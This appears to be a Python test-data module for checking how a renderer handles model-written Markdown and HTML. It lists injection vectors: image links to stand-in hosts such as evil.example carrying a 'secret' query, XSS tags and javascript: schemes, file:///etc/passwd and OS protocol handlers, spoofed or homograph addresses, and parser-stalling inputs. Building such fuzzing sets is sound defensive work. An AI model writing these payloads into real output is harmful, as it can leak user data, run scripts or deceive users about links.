"""Texts that a model may be made to write: to fetch, to open, to deceive, or to stall.

``VECTORS`` try to reach the disk, the network or a program, or to lie about an address.
``STALLS`` are cheap to write and dear to read for a parser that is not careful.
"""

from __future__ import annotations

from itertools import product

PLACE = "{target}"
"""Where a vector takes the address of something that must never be touched."""

_TARGETS = (
    "file://{target}", "{target}", "http://127.0.0.1:9/x.png", "https://evil.example/p?q=secret",
    "//evil.example/x.png", "\\\\evil.example\\share\\x.png", "data:image/png;base64,iVBORw0KGgo=",
    "qrc:/x.png", "ftp://evil.example/x.png", "smb://evil.example/x", "javascript:alert(1)",
)  # fmt: skip
_SHAPES = (
    "![x]({0})", "![x](<{0}>)", '![x]({0} "title")', "![x][r]\n\n[r]: {0}", "![r]\n\n[r]: <{0}>",
    "[![x]({0})]({0})", "<img src='{0}'>", '<img src="{0}" onerror=alert(1)>', "<IMG SRC={0}>",
    "<table background='{0}'><tr><td>x</td></tr></table>", "<body background='{0}'>x",
    "<div style=\"background-image:url('{0}')\">x</div>", "<link rel=stylesheet href='{0}'>",
    "<style>@import url('{0}');</style>", "<a href='{0}'>x</a>", "[x]({0})", "<{0}>",
    "| a |\n|---|\n| ![x]({0}) |", "> - ![x]({0})", "# ![x]({0})", "[^1]\n\n[^1]: ![x]({0})",
    "Term\n: ![x]({0})", "```html\n<img src='{0}'>\n```", "`<img src='{0}'>`",
    "$\\includegraphics{{{0}}}$", "$$\n\\href{{{0}}}{{x}} \\input{{{0}}}\n$$",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "vbscript:x", "data:text/html,x",
    "file:///etc/passwd", "file://host/share", "smb://h/s", "ms-msdt:/id", "search-ms:query=x",
    "ms-officecmd:x", "vscode://file/x", "calculator:", "tel:123", "ssh://h", "telnet://h",
    "ldap://h", "x-apple.systempreferences:x", "steam://run/1", "mailto", "mailto:", "https:",
    "https://", "http:evil.com", "https:///x", "https://user:pass@evil.com", "https://a@b.com",
    "https://good.com\\@evil.com", "https://good.com%00.evil.com", "https://a\u202ecom",
    "https://a\u200bb.com", "https://[::1", "https://a.b:99999999/", "about:blank", "blob:x",
    "view-source:https://a.b", "intent://x", "jar:https://a.b!/", "feed:https://a.b",
    "https://" + "a" * 3000, "\u0001javascript:alert(1)", "//evil.com", "/etc/passwd", "../x",
)  # fmt: skip
_TAGS = (
    "<script>alert(1)</script>", "<iframe src='https://evil.example'></iframe>", "<svg onload=x>",
    "<object data=x></object>", "<embed src=x>", "<meta http-equiv=refresh content='0;url=x'>",
    "<form action=x><button>go</button></form>", "<base href='https://evil.example/'>",
    "<input autofocus onfocus=alert(1)>", "<math href='javascript:x'>x</math>", "<b onclick=x>b</b>",
    "<!--[if IE]><img src=x><![endif]-->", "<?php echo 1 ?>", "<![CDATA[<img src=x>]]>",
    "&lt;img src=x&gt;", "&#60;img src=x&#62;", "<a href=\"x\" style=\"font-size:999px\">x</a>",
    "<font size=7 color=red>x</font>", "<h1 style='color:white'>x</h1>", "<br onclick=x>",
    "<qt><b>x</b></qt>", "<html><body>x</body></html>",
)  # fmt: skip
_LIES = (
    "a\u202eb", "\u2066x\u2069", "a\u200bb", "\ufeffx", "\u2067abc", "x\U000e0041\U000e0042",
    "[https://good.com](https://evil.com)", "[good\u202emoc.live](https://evil.com)",
    "https://\u0430pple.com", "[x](https://xn--pple-43d.com)", "a\u0000b", "\x1b[31mred", "\x07",
    "\u2028x", "\u0085x", "\u00adx", "a\ufe0fb\ufe0f", "x" + "\u0301" * 200, "\ufff9a\ufffab\ufffb",
    "\ud83d", "\u200f\u05d0", "\u180ex", "\u3164", "\U0001d173",
)  # fmt: skip

VECTORS: tuple[str, ...] = (
    *(shape.replace("{0}", target).replace("{{", "{").replace("}}", "}")
      for shape, target in product(_SHAPES, _TARGETS)),
    *(f"[click]({scheme})" for scheme in _SCHEMES),
    *(f"[click](<{scheme}>)" for scheme in _SCHEMES),
    *(f"<{scheme}>" for scheme in _SCHEMES),
    *_TAGS,
    *(f"- {tag}\n\n> {tag}\n" for tag in _TAGS),
    *_LIES,
    *(f"[{lie}](https://a.b) `{lie}`\n\n```\n{lie}\n```\n" for lie in _LIES),
)  # fmt: skip


def stalls(size: int) -> dict[str, str]:
    """Dear texts of about this many characters, by name."""

    def times(text: str) -> str:
        return text * max(size // len(text), 1)

    ticks = "".join("`" * n + " " for n in range(1, int((2 * size) ** 0.5)))
    return {
        "brackets": times("["), "images": times("!["), "links": times("[a]("),
        "references": times("[a]["), "closed brackets": "[" * (size // 2) + "]" * (size // 2),
        "stars": times("***a* "), "strong": times("*a **b "), "underscores": times("_a "),
        "mixed emphasis": times("*_a_ **b"), "open emphasis": times("*a_b"), "cdata": times("<![CDATA["),
        "declarations": times("<!["), "tags": times("<a "), "mail tags": times("<a@"),
        "http tags": times("<http:"), "comments": times("<!-- "), "processing": times("<?"),
        "tildes": times("~~~a\n"), "open fence": "```\n" + times("x\n"), "ticks": ticks,
        "entities": times("&amp;"), "broken entities": times("&#x"), "dollars": times("$a "),
        "double dollars": times("$$ "), "open formulas": times("\\("), "display": times("\\["),
        "one line of numbers": times("1. "), "one line of bullets": times("- "),
        "deep list": "".join(" " * n + "- a\n" for n in range(int((2 * size) ** 0.5))),
        "deep quote": times(">"), "deep quotes": times("> " * 60 + "a\n"), "spaces": times(" "),
        "tabs": times("\t"), "blank lines": times("\n"), "word": times("x"),
        "hebrew and latin": times("a\u05d0"), "combining": "e" + "\u0301" * size,
        "emoji": times("👩‍👩‍👧‍👦"), "wide": times("漢"), "hidden": times("\u202e"),
        "alternating hidden": times("\u202e\u202d"), "table rows": "|a|b|\n|-|-|\n" + times("|c|d|\n"),
        "table columns": "|" + times("a|") + "\n|" + times("-|") + "\n",
        "table bars": "|a|\n|-|\n|" + times("\\|"), "setext": times("a\n="), "headings": times("# a\n"),
        "rules": times("---\n"), "definitions": times("a\n: b\n\n"), "notes": times("[^a]: b\n"),
        "note marks": "[^a]: x\n\n" + times("[^a]"), "reference list": times("[a]: b\n"),
        "open references": times("[a]: "), "addresses": times("https://a.b/("),
        "bare addresses": times("http://"), "mail": times("a@"), "mail words": times("a.b-c_d@"),
        "escapes": times("\\"), "parentheses": times("[a](("), "titles": times("[a](b \"c"),
        "carriage returns": times("\r"), "dashes": times("-"), "bidi isolates": times("\u2066\u2069"),
        "code lines": "```py\n" + times("def f(x): return 'a'\n"), "code word": "```py\n" + times("x"),
        "code brackets": "```java\n" + times("("), "code quotes": "```py\n" + times("'''"),
        "environments": times("\\begin{align}\n"),
        "details": times("<details>\n"), "ended details": times("<details>a</details>"),
        "ends of details": "<details>\n" + times("</details>"), "one line of details": times("<details>"),
        "summaries": times("<details><summary>a\n"), "open summary": "<details><summary>" + times("a\n"),
        "lowered": times("<sub>"), "lowered and raised": times("<sub><sup>a</sub>"),
        "ends of tags": times("</sub>"), "tags and links": times("[<sub>a](b)</sub>"),
        "open comment": "<!--\n" + times("a\n"), "comments in a line": times("a <!-- b --> "),
        "lines of comments": times("<!-- a -->\n"), "deep fences": times("```a\n"),
        "deep fences with ends": "".join(f"{'`' * n}a\n" for n in range(3, int((2 * size) ** 0.5))),
        "many notes": "".join(f"[^{n}] [^{n}]: b\n\n[^{n}]: c\n\n" for n in range(size // 24)),
        "many references": "".join(f"[a{n}]\n\n[a{n}]: https://b.c\n\n" for n in range(size // 28)),
        "products": times("3*4"), "powers": times("x**2 "), "products of words": times("ab*cd"),
        "bold and powers": times("**a**2"), "ranges": times("5~~7"), "cells of code": "|a|\n|-|\n" + times("`|"),
        "cells of formulas": "|a|\n|-|\n" + times("$a|b$c|"), "marks of direction": times("\u200fa"),
        "spaces in Khmer": times("\u1780\u200b"), "joiners": times("\u0645\u200c"),
        "indented": times("    a b\n\n"), "deep bullets": times("        - a\n"),
    }  # fmt: skip
